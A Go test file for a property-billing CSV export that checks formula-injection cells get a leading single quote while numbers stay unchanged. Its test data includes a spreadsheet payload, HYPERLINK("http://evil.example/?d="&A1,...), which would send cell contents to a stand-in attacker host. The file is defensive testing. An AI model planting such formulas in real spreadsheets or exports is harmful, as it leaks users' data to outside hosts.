package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/zevdesk/zevdesk/core"
)

// TestExportCSVNeutralisesFormulas: a text cell of the property export that a
// spreadsheet would run as a formula (a tenant named "=HYPERLINK(...)")
// gets a leading single quote in every preset, as OWASP recommends; ordinary
// text and every number, a negative amount included, are written unchanged.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	plain := ExportRow{Site: "birke", Invoice: 7, Unit: "W01", TenantRef: "4711", Tenant: "Anna Muster",
		From: core.MustDate(2026, 1, 1), To: core.MustDate(2026, 1, 31), CostType: CostEnergy,
		KWh: -1500 * core.Wh, Net: -1250, VATRate: 810, VAT: -101, Gross: -1351}
	rows := []ExportRow{plain}
	for _, c := range []string{"=", "+", "-", "@", "\t", "\r"} {
		r := plain
		r.Site = c + "site"
		r.Unit = c + "1"
		r.TenantRef = c + "SUM(A1:A9)"
		r.Tenant = c + `HYPERLINK("http://evil.example/?d="&A1,"Anna")`
		rows = append(rows, r)
	}
	for _, name := range []string{"generic", "excel-ch"} {
		t.Run(name, func(t *testing.T) {
			p := Presets[name]
			var buf bytes.Buffer
			if err := WriteExportCSV(&buf, rows, p); err != nil {
				t.Fatal(err)
			}
			cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff")))
			cr.Comma = p.Comma
			recs, err := cr.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != len(rows)+1 {
				t.Fatalf("%d records, want %d", len(recs), len(rows)+1)
			}
			for i, rec := range recs[1:] {
				r := rows[i]
				got := map[string]string{}
				for j, col := range p.Columns {
					got[col] = rec[j]
				}
				q := ""
				if i > 0 {
					q = "'"
				}
				for col, want := range map[string]string{"site": q + r.Site, "unit": q + r.Unit, "tenant_ref": q + r.TenantRef, "tenant": q + r.Tenant,
					"invoice": "7", "from": "2026-01-01", "cost_type": "energy",
					"kwh": "-1.500", "net_chf": "-12.50", "vat_rate": "8.1", "vat_chf": "-1.01", "gross_chf": "-13.51"} {
					if got[col] != want {
						t.Errorf("row %d %s = %q, want %q", i+1, col, got[col], want)
					}
				}
			}
		})
	}
}
